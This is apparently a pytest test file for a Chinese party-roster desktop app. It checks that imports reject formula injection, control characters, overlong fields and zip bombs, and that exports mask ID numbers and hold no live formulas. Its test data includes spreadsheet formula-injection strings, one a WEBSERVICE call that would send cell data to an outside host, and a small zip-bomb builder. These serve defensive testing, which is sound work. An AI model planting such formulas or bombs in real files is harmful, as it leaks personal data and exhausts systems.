"""Hostile and broken files at the door: formulas, invisible and control characters,
overlong fields, zip bombs, huge sheets and cells; people without an ID number imported
twice; and what an export lets out (no live formula, no way back to the birth date)."""

from __future__ import annotations

import calendar
import datetime as dt
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

import main
from dahe_desktop.exporting.roster import export_roster
from dahe_desktop.importing import (
    ImportFileError,
    apply_roster_import,
    bounds,
    preview_roster_import,
)
from dahe_desktop.safety import backups
from db.models import Branch, Member
from tests.fixtures.rosters import HEADER, KNOWN_BRANCH, member_row, write_csv, write_xlsx
from tests.helpers.roster import small_roster

NAME = HEADER.index("姓 名")
ID = HEADER.index("身份证号码")
BRANCH = HEADER.index("所在党支部")


def preview_of(tmp_path: Path, rows: list[list[object]]):
    return preview_roster_import(write_xlsx(tmp_path / "in.xlsx", rows))


def preview_csv(tmp_path: Path, rows: list[list[object]]):
    """CSV: text exactly as written (openpyxl refuses control characters and turns
    "=..." into a formula)."""
    return preview_roster_import(write_csv(tmp_path / "in.csv", rows, encoding="utf-8-sig"))


def test_invisible_and_control_characters_are_cleaned_at_the_door(db, tmp_path):
    rows = [
        member_row("张\x1b[31m三", dt.date(1985, 3, 12), 1),
        member_row("李\u200b四", dt.date(1986, 4, 13), 2, **{"所在党支部": "大河\u200b村党支部"}),
        member_row("王五\x07", dt.date(1987, 5, 14), 3, **{"所在党支部": "大河村党支部\u200d"}),
    ]
    preview = preview_csv(tmp_path, rows)
    assert not preview.bad
    assert [g.data.name for g in preview.good] == ["张[31m三", "李四", "王五"]
    assert {g.branch_name for g in preview.good} == {KNOWN_BRANCH}  # one branch, not look-alikes
    apply_roster_import(preview)
    assert Branch.select().count() == 1


def test_formulas_and_overlong_fields_are_bad_rows_with_the_reason(db, tmp_path):
    rows = [
        member_row("=1+1", dt.date(1985, 3, 12), 1),
        member_row("赵六", dt.date(1986, 4, 13), 2, **{"所在党支部": "长" * 800 + "党支部"}),
        member_row("钱七", dt.date(1987, 5, 14), 3, **{"所在党支部": "@SUM(A1)"}),
        member_row("孙" * 21, dt.date(1988, 6, 15), 4),
    ]
    preview = preview_csv(tmp_path, rows)
    reasons = {bad.row: bad.text for bad in preview.bad}
    assert len(reasons) == 4 and not preview.good
    assert "公式" in reasons[2] and "过长" in reasons[3] and "公式" in reasons[4] and "过长" in reasons[5]


def test_people_without_an_id_number_are_not_imported_twice(db, tmp_path):
    rows = [member_row(n, dt.date(1980 + i, 1, 2), i, **{"身份证号码": None}) for i, n in enumerate(["甲", "乙", "丙"])]
    apply_roster_import(preview_of(tmp_path, rows))
    again = preview_of(tmp_path, rows)
    assert [k.name for k in again.already] == ["甲", "乙", "丙"] and not again.good
    assert Member.select().count() == 3
    twice = preview_of(tmp_path, [rows[0], member_row("丁", dt.date(1990, 1, 2), 9, **{"身份证号码": None}),
                                  member_row("丁", dt.date(1990, 1, 2), 9, **{"身份证号码": None})])  # fmt: skip
    assert [g.data.name for g in twice.good] == ["丁"] and "同一人" in twice.bad[0].text


def test_the_cli_reports_people_already_in_the_roster(data_dir, tmp_path, capsys):
    rows = [member_row("甲", dt.date(1980, 1, 2), 1, **{"身份证号码": None})]
    path = write_csv(tmp_path / "r.csv", rows, encoding="utf-8-sig")
    assert main.main(["--data-dir", str(data_dir), "import", "roster", str(path)]) == 0
    assert main.main(["--data-dir", str(data_dir), "import", "roster", str(path)]) == 1
    out = capsys.readouterr()
    assert "已在花名册中" in out.out + out.err


def bomb(path: Path, megabytes: int) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<row>" + b"0" * (megabytes << 20))
    return path


def test_a_zip_bomb_is_refused_before_it_is_expanded(db, tmp_path):
    path = bomb(tmp_path / "bomb.xlsx", 20)
    assert path.stat().st_size < 100_000
    with pytest.raises(ImportFileError) as refused:
        preview_roster_import(path)
    assert "压缩" in refused.value.lines[0]


def test_a_sheet_with_too_many_rows_is_refused_from_its_xml(db, tmp_path, monkeypatch):
    monkeypatch.setattr(bounds, "MAX_ROWS", 50)
    rows = [member_row(f"人{i}", dt.date(1980, 1, 2), i) for i in range(60)]
    with pytest.raises(ImportFileError) as refused:
        preview_of(tmp_path, rows)
    assert "超过50行" in refused.value.lines[0]
    with pytest.raises(ImportFileError):  # CSV too
        preview_roster_import(write_csv(tmp_path / "r.csv", rows, encoding="utf-8-sig"))


def test_a_huge_cell_or_file_is_refused_with_what_was_wrong(db, tmp_path, monkeypatch):
    rows = [member_row("甲", dt.date(1980, 1, 2), 1, 备注="很" * 10_000)]
    with pytest.raises(ImportFileError) as refused:
        preview_roster_import(write_csv(tmp_path / "r.csv", rows, encoding="utf-8-sig"))
    assert "第2行" in refused.value.lines[0] and "10000" in refused.value.lines[0]
    monkeypatch.setattr(bounds, "MAX_FILE_BYTES", 1000)
    big = write_csv(tmp_path / "big.csv", [member_row("甲", dt.date(1980, 1, 2), i) for i in range(30)],
                    encoding="utf-8-sig")  # fmt: skip
    with pytest.raises(ImportFileError) as refused:
        preview_roster_import(big)
    assert "文件太大" in refused.value.lines[0]


def test_an_export_runs_no_formula(db, tmp_path):
    ids = small_roster()
    Member.update(specialties="=WEBSERVICE(\"http://x/\"&F3)", position="+1+1").where(Member.id == ids["卓玛才让"]).execute()
    export_roster(tmp_path / "out.xlsx", [ids["卓玛才让"]])
    sheet = load_workbook(tmp_path / "out.xlsx").active
    cells = [c for c in sheet[3] if isinstance(c.value, str) and c.value[:1] in "=+"]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


def test_a_masked_export_cannot_give_back_the_birth_date(db, tmp_path):
    ids = small_roster()
    export_roster(tmp_path / "out.xlsx", [v for k, v in ids.items() if not k.endswith("支部")])
    _, header, *rows = list(load_workbook(tmp_path / "out.xlsx").active.iter_rows(values_only=True))
    for row in rows:
        member = Member.get(Member.name == row[header.index("姓名")])
        shown = " ".join(str(v) for v in row if v is not None)
        assert member.id_number not in shown and f"{member.birth_date:%Y-%m-%d}" not in shown
        masked = row[header.index("身份证号")]
        assert masked[6:14] == "********" and masked[17] == "*"
        assert row[header.index("出生日期")] == f"{member.birth_date:%Y-%m}"
        days = calendar.monthrange(member.birth_date.year, member.birth_date.month)[1]
        assert days >= 28  # every day of the month gives a valid number: none stands out


def test_sensitive_fields_are_left_out_of_an_export_unless_ticked(db, tmp_path):
    ids = small_roster()
    Member.update(category="老病残党员").where(Member.id == ids["李国强"]).execute()
    export_roster(tmp_path / "plain.xlsx", [ids["李国强"]])
    export_roster(tmp_path / "full.xlsx", [ids["李国强"]], include_sensitive=True)
    plain = list(load_workbook(tmp_path / "plain.xlsx").active.iter_rows(values_only=True))
    full = list(load_workbook(tmp_path / "full.xlsx").active.iter_rows(values_only=True))
    assert "人员类别" not in plain[1] and "老病残党员" not in plain[2]
    assert "人员类别" in full[1] and "老病残党员" in full[2]


def test_a_random_file_named_xlsx_is_not_called_a_csv(db, tmp_path):
    import random

    path = tmp_path / "花名册.xlsx"
    rng = random.Random(3)
    path.write_bytes(bytes(rng.randrange(256) for _ in range(5000)))
    with pytest.raises(ImportFileError) as refused:
        preview_roster_import(path)
    assert "CSV" not in refused.value.lines[0] and "损坏" in refused.value.lines[0]


def test_the_data_folder_and_its_files_are_private(tmp_path):
    import os
    import stat

    from dahe_desktop.safety.session import open_data

    folder = tmp_path / "new-folder"
    session = open_data(folder / "dahe.sqlite3")
    try:
        small_roster()
        backup = backups.make_backup("manual")
    finally:
        session.close()
    mode = lambda p: stat.S_IMODE(os.stat(p).st_mode)  # noqa: E731
    assert mode(folder) == 0o700 and mode(folder / "dahe.sqlite3") == 0o600
    assert mode(backup.parent) == 0o700 and mode(backup) == 0o600
